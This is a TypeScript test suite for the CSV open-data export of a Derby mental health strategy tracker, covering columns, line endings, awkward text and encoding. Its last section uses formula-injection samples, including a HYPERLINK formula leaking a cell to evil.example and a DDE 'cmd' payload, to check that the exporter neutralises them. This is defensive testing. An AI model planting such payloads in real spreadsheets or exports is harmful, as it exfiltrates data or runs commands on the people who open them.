import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { ACTION_COLUMNS, UPDATE_COLUMNS, actionsCsv, updatesCsv } from "../../src/data/index.ts";
import { buildStrategy, type Action, type StrategyModel } from "../../src/model/index.ts";
import { readModel } from "../../src/pipeline.ts";
import { CONTENT } from "../helpers/scratch.ts";
import { FORMULA_NOTE } from "../../src/site/open-data.ts";
import { derbySite, readPage, textOf } from "../site/build.ts";
import { AWKWARD_NOTE, action, strategyFiles } from "./strategy-files.ts";
import { AS_AT, clockAt } from "../helpers/clock.ts";

const _list = (items: readonly string[] | undefined) => (items ?? []).join("; ");
const _yesNo = (b: boolean) => (b ? "yes" : "no");

/** The row a reader should see for an action, taken field by field from the model. */
function expectedActionRow(a: Action): Record<string, string> {
  const p = a.progress;
  return {
    id: a.id,
    number: String(a.number),
    title: a.title,
    kind: a.kind,
    commissioning: a.commissioning ?? "",
    horizon: a.horizon ?? "",
    lead: a.lead,
    partners: _list(a.partners),
    themes: _list(a.themes),
    drivers: _list(a.drivers),
    start: a.start ?? "",
    due: a.dueAt.due,
    status: p.status === "not-reported" ? "" : p.status,
    percent: p.percent === null ? "" : String(p.percent),
    overdue: _yesNo(p.overdue),
    stale: _yesNo(p.stale),
    last_update_date: p.latest?.date ?? "",
    last_update_note: p.latest?.note ?? "",
    revised_due: a.dueAt.revision?.due ?? "",
    revised_by: a.dueAt.revision
      ? `report ${a.dueAt.revision.reportId} recommendation ${a.dueAt.revision.recommendation}, ${a.dueAt.revision.approvedOn}`
      : "",
    ref: a.ref ?? "",
    objective: a.objective ?? "",
    lead_organisations: a.leads.flatMap((l) => (l.organisation ? [l.organisation.id] : [])).join("; "),
    original_due: a.dueAt.original,
  };
}

function parseCsv(text: string): { header: string[]; rows: Record<string, string>[] } {
  const records: string[][] = parse(text, { record_delimiter: "\r\n", relax_column_count: false });
  const [header = [], ...body] = records;
  return { header, rows: body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ""]))) };
}

describe("actions.csv and updates.csv for the Derby strategy", () => {
  let derby: StrategyModel;
  beforeAll(() => {
    const strategy = readModel(CONTENT).model.strategies.find((s) => s.id === "derby-mental-health");
    if (!strategy) throw new Error("the Derby strategy is missing from content/");
    derby = strategy;
  });

  it("has the documented columns in order, then one row per action matching the model", () => {
    const { header, rows } = parseCsv(actionsCsv(derby));
    expect(header).toEqual([...ACTION_COLUMNS]);
    expect(rows).toEqual(derby.actions.map(expectedActionRow));
    expect(rows.length).toBe(derby.counts.actions);
  });

  it("has one row per progress update, each action's updates oldest first", () => {
    const { header, rows } = parseCsv(updatesCsv(derby));
    expect(header).toEqual([...UPDATE_COLUMNS]);
    expect(rows.length).toBe(derby.counts.updates);
    const expected = derby.actions.flatMap((a) =>
      [...(a.updates ?? [])]
        .sort((x, y) => (x.date < y.date ? -1 : x.date > y.date ? 1 : 0))
        .map((u) => ({
          action_id: a.id,
          action_title: a.title,
          date: u.date,
          status: u.status,
          percent: u.percent === undefined ? "" : String(u.percent),
          by: u.by ?? "",
          report: u.report ?? "",
          note: u.note,
          reason: u.reason ?? "",
          recovery: u.recovery ?? "",
          proposed_due: u.revised_due ?? "",
          request: u.request ?? "",
        })),
    );
    expect(rows).toEqual(expected);
  });

  it("ends every record with CRLF, as RFC 4180 says", () => {
    for (const text of [actionsCsv(derby), updatesCsv(derby)]) {
      expect(text.endsWith("\r\n")).toBe(true);
      // Outside quoted fields every line break is CRLF: remove quoted fields, then look for a bare LF.
      expect(text.replace(/"(?:[^"]|"")*"/g, "")).not.toMatch(/[^\r]\n/);
    }
  });
});

describe("CSV with awkward text", () => {
  const strategy = buildStrategy(
    strategyFiles([
      action("late", [{ date: "2021-03-01", status: "at-risk", percent: 40, note: AWKWARD_NOTE, by: 'Lead, "Ops"' }], {
        title: 'Plan, "review" & report → Gŵyl',
        partners: ["Partner A, Ltd", "Partner £B"],
      }),
      action("fresh", [], { start: "2021-02-20", due: "2022-01-01" }),
    ]),
    clockAt(AS_AT.handMade),
  );

  it("reads back exactly the notes and titles written, commas, quotes, newlines and non-ASCII included", () => {
    const actions = parseCsv(actionsCsv(strategy)).rows;
    expect(actions[0]?.["title"]).toBe('Plan, "review" & report → Gŵyl');
    expect(actions[0]?.["partners"]).toBe("Partner A, Ltd; Partner £B");
    expect(actions[0]?.["last_update_note"]).toBe(AWKWARD_NOTE);
    const updates = parseCsv(updatesCsv(strategy)).rows;
    expect(updates).toEqual([
      {
        action_id: "late",
        action_title: 'Plan, "review" & report → Gŵyl',
        date: "2021-03-01",
        status: "at-risk",
        percent: "40",
        by: 'Lead, "Ops"',
        report: "",
        note: AWKWARD_NOTE,
        reason: "",
        recovery: "",
        proposed_due: "",
        request: "",
      },
    ]);
  });

  it("shows overdue and stale as yes or no, and leaves absent values empty", () => {
    const [late, fresh] = parseCsv(actionsCsv(strategy)).rows;
    expect(late).toMatchObject({ status: "at-risk", overdue: "yes", commissioning: "" });
    expect(fresh).toMatchObject({
      status: "",
      percent: "",
      overdue: "no",
      stale: "no",
      last_update_date: "",
      last_update_note: "",
    });
  });

  it("is UTF-8 text without a byte order mark", () => {
    const bytes = Buffer.from(actionsCsv(strategy), "utf8");
    expect([...bytes.subarray(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString("utf8")).toContain("Gŵyl");
  });
});

describe("CSV that a spreadsheet opens", () => {
  const FORMULAS = {
    title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    lead: "+44 1332 000000",
    note: "-2+3 more staff recruited",
    by: "@SUM(1+1)*cmd|' /C calc'!A0",
    partner: "\t=1+1",
    cr: "\r=1+1",
  };
  const strategy = buildStrategy(
    strategyFiles([
      action(
        "formulas",
        [{ date: "2021-03-01", status: "at-risk", percent: 40, note: FORMULAS.note, by: FORMULAS.by }],
        {
          title: FORMULAS.title,
          lead: FORMULAS.lead,
          partners: [FORMULAS.partner, FORMULAS.cr],
        },
      ),
    ]),
    clockAt(AS_AT.handMade),
  );

  it("starts every line a spreadsheet would run as a formula (= + - @ tab, after a line break too) with an apostrophe", () => {
    const [row] = parseCsv(actionsCsv(strategy)).rows;
    expect(row?.["title"]).toBe(`'${FORMULAS.title}`);
    expect(row?.["lead"]).toBe(`'${FORMULAS.lead}`);
    expect(row?.["partners"]).toBe(`'${FORMULAS.partner}; \r'=1+1`);
    expect(row?.["last_update_note"]).toBe(`'${FORMULAS.note}`);
    const [update] = parseCsv(updatesCsv(strategy)).rows;
    expect(update).toMatchObject({
      action_title: `'${FORMULAS.title}`,
      by: `'${FORMULAS.by}`,
      note: `'${FORMULAS.note}`,
      percent: "40",
      date: "2021-03-01",
    });
  });

  it("reads back, in csv-parse, to exactly the text written once the documented apostrophe is taken off", () => {
    const [update] = parseCsv(updatesCsv(strategy)).rows;
    const unquote = (cell = "") => cell.replace(/^'(?='*[=+\-@\t])/, "");
    expect([unquote(update?.["action_title"]), unquote(update?.["by"]), unquote(update?.["note"])]).toEqual([
      FORMULAS.title,
      FORMULAS.by,
      FORMULAS.note,
    ]);
  });

  it("is explained on the open data page beside the column dictionary", async () => {
    const page = textOf(readPage(await derbySite(), "derby-mental-health/open-data/index.html").children as never);
    expect(FORMULA_NOTE).toContain(
      "Each line of a text cell (its first, and any after a line break) that starts with =, +, -, @ or a tab, after any apostrophes, has an apostrophe (') put before it",
    );
    expect(page).toContain(FORMULA_NOTE);
  });
});
